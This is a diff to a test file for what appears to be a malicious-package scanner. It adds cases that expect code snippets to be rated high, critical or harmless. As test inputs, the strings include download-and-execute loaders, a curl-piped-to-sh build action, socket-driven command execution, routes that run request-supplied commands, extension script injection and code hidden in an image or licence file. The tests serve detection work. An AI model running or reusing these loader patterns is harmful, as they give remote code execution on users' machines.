@@ -330,8 +330,9 @@ test('what is changed at installation, and wheels', () => {
 
 test('programs that start what was downloaded, packages of Python by their address, commands of a socket', () => {
   const DOWNLOAD = 'const cp = require("child_process"), os = require("os"), fs = require("fs"), path = require("path"); const file = path.join(os.tmpdir(), "a.bat"); require("https").get(u, (r) => r.pipe(fs.createWriteStream(file))); ';
-  for (const code of ['cp.exec(`start /min "" "${file}"`)', 'cp.exec(`python3 "${file}"`)']) assert.equal(worst(DOWNLOAD + code), 'high', code);
+  for (const code of ['cp.exec(`start /min "" "${file}"`)', 'cp.exec(`python3 "${file}"`)', 'cp.exec(`chmod +x ${file} && ${file}`)']) assert.equal(worst(DOWNLOAD + code), 'high', code);
   assert.equal(worst(`${DOWNLOAD}cp.exec(\`tar -xf "\${file}"\`)`), 'nothing');
+  assert.equal(worst(`${DOWNLOAD}cp.exec(\`chmod 600 \${file} && ls -l\`)`), 'nothing');
   assert.equal(worst('const cp = require("child_process"), fs = require("fs"); const jar = home + "/lib.jar"; require("https").get(u, (r) => r.pipe(fs.createWriteStream(jar))); cp.spawn("java", ["-jar", jar])'), 'high');
   assert.equal(worst('import os, sys\nos.system(f"{sys.executable} -m pip install -q git+https://git.example.invalid/x")', 'a.py'), 'high');
   assert.equal(worst('import subprocess, socket\ns = socket.create_connection(("c.example.invalid", 1))\nsubprocess.run(s.recv(99).decode(), shell=True)', 'a.py'), 'critical');
@@ -348,4 +349,27 @@ test('good: what a compiler is told about versions', () => {
   const gyp = `{ "targets": [{ "defines": ["V=\\"<!(node -e \\"process.stdout.write(require('../package.json').v)\\")\\""], "sources": ["src/base64.cpp", "src/eval.cpp"] }] }`;
   assert.deepEqual(said(rule, { 'index.js': '', 'src/lib.gyp': gyp }), []);
   assert.deepEqual(said(rule, { 'index.js': '', 'lib.gyp': '{ "actions": [{ "action": [\n"sh", "-c",\n"curl -s https://example.org/x | sh"] }] }' }), ['high lib.gyp:1']);
+});
+
+test('a program in quotation marks, requests that are run, text for pages, what is no script', () => {
+  const inject = (func: string, args = 'args: [rule.code]') => `chrome.scripting.executeScript({ target: { tabId }, func: ${func}, ${args} })`;
+  const route = (use: string) => `const cp = require("child_process"); app.post("/x", (req, res) => { ${use} })`;
+  const copy = (from: string, start: string) => `const cp = require("child_process"), fs = require("fs"), path = require("path"); const to = path.join(home, "run.js"); fs.copyFileSync(path.join(__dirname, "${from}"), to); ${start}`;
+  for (const code of [
+    'const os = require("os"), path = require("path"), cp = require("child_process"); const file = path.join(os.tmpdir(), "a.exe"); fetch(u).then((r) => save(r, file)).then(() => cp.exec(`"${file}"`))',
+    route('cp.exec(req.body.command || "id")'), route('const { command } = req.query; cp.execSync(command)'),
+    inject('(c) => { const s = document.createElement("script"); s.textContent = c; document.head.append(s) }'), inject('run').replace(/^/, 'function run(c) { eval(c) } '),
+    'chrome.runtime.sendMessage({ u }, (answer) => { const s = document.createElement("script"); s.src = answer.js; document.body.append(s) })',
+    'const raw = require("fs").readFileSync(__dirname + "/logo.png"); module.constructor.prototype._compile.call(module, raw.subarray(9).toString(), __filename)',
+    copy('LICENSE.txt', 'cp.spawn(process.execPath, [to])'),
+  ]) assert.equal(worst(code), 'high', code);
+  assert.equal(worst('const io = require("socket.io-client"); const s = io(u); s.on("cmd", (m) => require("child_process").exec(m.code))'), 'critical');
+  assert.equal(worst('const p = require("child_process").spawn("node", ["-"]); require("https").get(u, (r) => r.pipe(p.stdin))'), 'critical');
+  for (const code of [
+    route('cp.exec("git log " + req.body.branch)'), route('cp.exec("id"); log(req.body.command)'),
+    inject('(c) => { document.title = c }'), inject('() => { const s = document.createElement("script"); s.textContent = "run()"; document.head.append(s) }'), inject('(c) => { const s = document.createElement("script"); s.textContent = c }', 'world'),
+    'chrome.runtime.sendMessage({ u }, (answer) => { picture.src = answer.url })',
+    'const grammar = require("fs").readFileSync(__dirname + "/a.js", "utf8"); eval(grammar)',
+    copy('template.js', 'cp.spawn(process.execPath, [to])'), copy('LICENSE.txt', 'done(to)'),
+  ]) assert.equal(worst(code), 'nothing', code);
 });
